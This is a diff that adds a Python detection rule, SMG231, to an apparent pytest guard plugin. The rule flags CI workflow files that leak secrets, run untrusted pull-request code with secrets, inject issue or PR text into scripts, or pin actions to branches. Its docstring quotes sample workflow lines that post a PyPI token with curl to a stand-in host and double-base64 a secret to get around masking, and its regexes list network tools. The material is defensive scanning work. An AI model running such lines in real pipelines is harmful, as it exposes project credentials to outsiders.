@@ -1,0 +1,130 @@
+"""SMG231: a workflow lets its secrets go, or lets strangers at them."""
+
+from __future__ import annotations
+
+import re
+from collections.abc import Iterable, Iterator
+
+from pytest_selfmod_guard.model import Risk
+from pytest_selfmod_guard.rules import Sighting, text_rule
+from pytest_selfmod_guard.view import Side
+
+_HIDDEN = r"\$\{\{\s{0,9}secrets\.(\w{1,80})\s{0,9}\}\}"
+_FETCH = r"\b(?:curl|wget|nc|http|iwr|invoke-\w{1,20})\b"
+_SENT = re.compile(
+    rf"(?i){_FETCH}[^\n]{{0,400}}(?:-d|--data[\w-]{{0,12}}|-F|--form"
+    rf"|--post-data|\?|&|-T)[ =]?[^\n]{{0,200}}?{_HIDDEN}"
+)
+_PIPED = re.compile(
+    rf"(?i){_HIDDEN}[^\n|]{{0,80}}\|\s{{0,9}}(?:base64|rev|xxd|od"
+    rf"|sed|tr|fold|{_FETCH})(?!\s{{1,3}}(?:-d|--decode))"
+)
+_WHOLE = re.compile(r"(?i)\btojson\(\s{0,9}secrets\s{0,9}\)")
+_HEAD = re.compile(
+    r"(?:\bref:|\bcheckout\b|\bpull\b|\bfetch\b)[^\n]{0,80}"
+    r"(?:github\.event\.pull_request\.head\.(?:sha|ref)|github\.head_ref|refs/pull/)"
+)
+_STRANGE = re.compile(
+    r"\$\{\{[^}\n]{0,80}github\.event\.(?:issue|pull_request|comment"
+    r"|review|discussion|head_commit)\.(?:title|body|message)"
+    r"|\$\{\{\s{0,9}github\.head_ref"
+)
+_BRANCH = re.compile(
+    r"\buses:\s{0,9}(?!actions/|github/|\./|docker:)([\w.-]{1,80}/[\w./-]{1,"
+    r"120})@(?:main|master|develop|dev|latest|HEAD)\b"
+)
+_ALL = re.compile(r"\bpermissions:\s{0,9}write-all\b")
+_TELLING = 4
+"""Letters, from which the first part of a secret's name may be a service's."""
+_URL = re.compile(r"(?i)(?:url|hook|endpoint)")
+
+
+@text_rule(
+    "SMG231",
+    risk=Risk.HIGH,
+    hint="hand a secret to one step by its `env`, and to the service that "
+    "issued it by a header; judge "
+    "pull requests from outside by `pull_request`, which has no secrets; pin actions by their hash",
+    triggers=(b"secrets", b"pull_request_target", b"uses:", b"write-all", b"github."),
+)
+def workflow_leaks(side: Side) -> Iterable[Sighting]:
+    """
+    A workflow sends its secrets away, prints them in disguise, or runs strangers' code with them.
+
+    Actions taken by a branch, all permissions at once, and text of strangers
+    put into a script are a warning.
+
+    Flagged: all secrets at once
+        === .github/workflows/test.yml
+        +       - run: echo '${{ toJSON(secrets) }}' > all.json
+
+    Flagged: a secret as data
+        === .github/workflows/test.yml
+        +       - run: curl -d "k=${{ secrets.PYPI_TOKEN }}" https://example.invalid/in
+
+    Flagged: printed so that it is not masked
+        === .github/workflows/test.yml
+        +       - run: echo "${{ secrets.PYPI_TOKEN }}" | base64 | base64
+
+    Flagged: a stranger's code with secrets
+        === .github/workflows/test.yml
+          on:
+        +   pull_request_target:
+          jobs:
+            test:
+              steps:
+                - uses: actions/checkout@v4
+                  with:
+                    ref: ${{ github.event.pull_request.head.sha }}
+
+    Flagged: an action that changes any day [medium]
+        === .github/workflows/test.yml
+        +       - uses: somebody/action@main
+
+    Allowed: a token for the service that issued it
+        === .github/workflows/test.yml
+        +       - run: curl -H "Authorization: Bearer ${{ secrets.GITHUB_TOKEN }}" https://api.github.com/user
+        +       - run: curl -d "text=done" "${{ secrets.SLACK_WEBHOOK_URL }}"
+        +       - uses: actions/checkout@v4
+    """
+    if not _is_workflow(side.path):
+        return
+    target = "pull_request_target" in (side.text or "")
+    for number, line in enumerate(side.lines, 1):
+        if not line.lstrip().startswith("#"):
+            for what, risk in _seen(line[:2000], target=target):
+                yield Sighting(number, what, " ".join(line.split()), risk=risk)
+
+
+def _is_workflow(path: str) -> bool:
+    return path.endswith((".yml", ".yaml")) and (
+        path.startswith((".github/", ".gitlab", ".circleci/"))
+        or "pipeline" in path
+        or "action" in path
+    )
+
+
+def _seen(line: str, *, target: bool) -> Iterator[tuple[str, Risk]]:
+    if _WHOLE.search(line):
+        yield "this hands out every secret of the project at once", Risk.HIGH
+    elif _is_sent(line):
+        yield "this sends a secret away", Risk.HIGH
+    elif _PIPED.search(line):
+        yield "this prints a secret in a form that is not masked", Risk.HIGH
+    if target and _HEAD.search(line):
+        yield "this runs a stranger's code with the project's secrets", Risk.HIGH
+    elif _STRANGE.search(line) and "run:" in line:
+        yield "this puts a stranger's text into a script", Risk.MEDIUM
+    if _BRANCH.search(line):
+        yield "this action is whatever its branch holds that day", Risk.MEDIUM
+    if _ALL.search(line):
+        yield "this gives the job every permission", Risk.MEDIUM
+
+
+def _is_sent(line: str) -> bool:
+    """Tell whether a secret is sent as data; one that is the address itself is not."""
+    found = _SENT.search(line)
+    if found is None or _URL.search(found[1]):
+        return False
+    service = found[1].lower().split("_")[0]
+    return len(service) < _TELLING or f"{service}" not in line.lower().replace(found[1].lower(), "")
